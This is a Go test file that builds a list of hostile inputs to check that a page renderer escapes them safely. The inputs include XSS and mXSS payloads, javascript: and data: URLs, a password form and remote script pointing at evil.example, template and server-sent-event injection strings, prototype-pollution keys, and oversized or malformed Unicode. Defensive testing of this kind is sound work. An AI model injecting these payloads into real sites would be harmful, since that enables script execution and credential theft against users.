package views_test

import (
	"encoding/json"
	"fmt"
	"strings"
)

// hostile are payloads that somebody types who wants to break the page: sixty
// and more, each as a flat text or as a JSON object.
var hostile = func() []string {
	scripts := []string{
		`<script>alert("script")</script>`,
		`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		`</script><script>alert("close")</script>`,
		`<img src=x onerror=alert("img")>`,
		`"><img src=x onerror=alert("quote")>`,
		`'><svg/onload=alert("svg")>`,
		`<svg><animate onbegin=alert("smil") attributeName=x dur=1s>`,
		`<svg><script>alert("svg script")</script></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")>`,
		`<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">`,
		`<iframe srcdoc="<script>parent.alert('frame')</script>"></iframe>`,
		`<iframe src="javascript:parent.alert('frame url')"></iframe>`,
		`<object data="javascript:alert('object')"></object>`,
		`<body onload=alert("body")>`,
		`<details open ontoggle=alert("toggle")>`,
		`<style>*{display:none!important}</style>`,
		`<div style="position:fixed;inset:0;background:red">over everything</div>`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<base href=//evil.example/>`,
		`<form action=//evil.example><input name=password autofocus></form>`,
		`<template><script>alert("template")</script></template>`,
		`<!--><img src=x onerror=alert("comment")>-->`,
		`<![CDATA[<img src=x onerror=alert("cdata")>]]>`,
		`<a href="javascript:alert('link')">click me</a>`,
		`<article class="card" id="e-k3v9x2ab-1" data-id="k3v9x2ab-1" data-kind="song" data-slot="bar">forged</article>`,
		`</div></article></div></main><h1>out of the card</h1>`,
		`{{constructor.constructor('alert("template")')()}} ${alert("literal")} <%= alert(1) %> #{alert(1)}`,
		`{{ range . }}{{ end }} { c.text } @templ.Raw("<b>")`,
		`&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(2)&#62;`,
	}
	words := []string{
		strings.Repeat("A", 60_000),
		strings.Repeat("wide ", 12_000),
		"z" + strings.Repeat("\u0301\u0323\u0348", 10_000),
		strings.Repeat("o\u0335\u0321\u0322\u0334\u0353\u0354", 400),
		"\u202eevil\u202d \u2066isolate\u2067 never closed",
		"\u202a\u202b\u202e\u2066\u2067\u2068" + strings.Repeat("\u202e", 500) + "text",
		"مرحبا <b>عالم</b> https://example.com/عالم שלום",
		strings.Repeat("\n", 20_000) + "far below",
		strings.Repeat("line\n", 10_000),
		"\x00null\x00 \x07bell\x1b[31mred\x1b[0m \x7f\u0085\u009b",
		"bad utf-8 \xff\xfe\xc0\x80 \xed\xa0\x80",
		"\ufeff\ufff9anchor\ufffaannotation\ufffb\u2028separator\u2029",
		strings.Repeat("\u200b\u200d\u2060", 5000),
		strings.Repeat("👨‍👩‍👧‍👦", 2000),
		strings.Repeat("﷽", 3000),
		"id: 1\nevent: wall:bye\ndata: {}\n\nretry: 1",
		"\r\rdata: forged\r\n\r\nevent: wall:retract\ndata: {\"id\":\"k3v9x2ab-1\"}\n\n",
		"",
		" \t\n ",
		strings.Repeat("https://example.com/ ", 2500),
		"https://" + strings.Repeat("a", 5000) + ".example/",
		"javascript:alert('text') data:text/html,<script>alert(1)</script> vbscript:x",
		"https://good.example@evil.example/ http://evil.example\u202e/moc.doog//:sptth",
		"https://example.com/\"onmouseover=\"alert('attr') https://example.com/'onfocus='alert(1)",
	}
	objects := []any{
		map[string]any{"text": "link", "url": "javascript:alert('url')"},
		map[string]any{"title": "link", "url": " \tjava\nscript:alert('url')"},
		map[string]any{"title": "link", "url": "javascript://evil.example/%0aalert('host')"},
		map[string]any{"title": "link", "url": "data:text/html,<script>alert('data')</script>"},
		map[string]any{"text": "picture", "image": "https://evil.example/pixel.svg"},
		map[string]any{"text": "picture", "image": `x" onerror="alert('image')`},
		map[string]any{"text": "by", "author": map[string]any{"name": `<img src=x onerror=alert("author")>`, "url": "javascript:alert('author')", "image": "javascript:alert(1)"}},
		map[string]any{"text": "by", "author": strings.Repeat("N", 20_000)},
		map[string]any{"title": strings.Repeat("T\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", 4000)},
		map[string]any{`"><script>alert("key")</script>`: `<script>alert("value")</script>`, "__proto__": "x", "constructor": "y"},
		map[string]any{"a": json.RawMessage(strings.Repeat("[", 5000) + strings.Repeat("]", 5000))},
		map[string]any{"id": "fake", "data-id": "k3v9x2ab-1", "class": "card", "style": "position:fixed", "onclick": "alert('field')"},
		map[string]any{"text": "never", "expires": "1e309", "time": -1, "started_at": "NaN", "duration": "Infinity"},
		map[string]any{"text": "year", "time": "9999-12-31T23:59:59Z", "expires": 253402300799},
		map[string]any{"text": []any{1, 2}, "title": map[string]any{"a": 1}, "author": []any{}, "url": true},
		map[string]any{"title": "song", "artist": `<b onmouseover=alert("artist")>`, "next": map[string]any{"title": "<script>alert(1)</script>"}, "live": map[string]any{"x": 1}, "art": "javascript:alert(1)"},
	}
	all := append(scripts, words...)
	for _, s := range scripts {
		objects = append(objects, map[string]any{"title": s, "author": s, "url": s})
	}
	for _, o := range objects {
		b, err := json.Marshal(o)
		if err != nil {
			panic(fmt.Sprint("a hostile payload of this test is no JSON: ", err))
		}
		all = append(all, string(b))
	}
	return all
}()
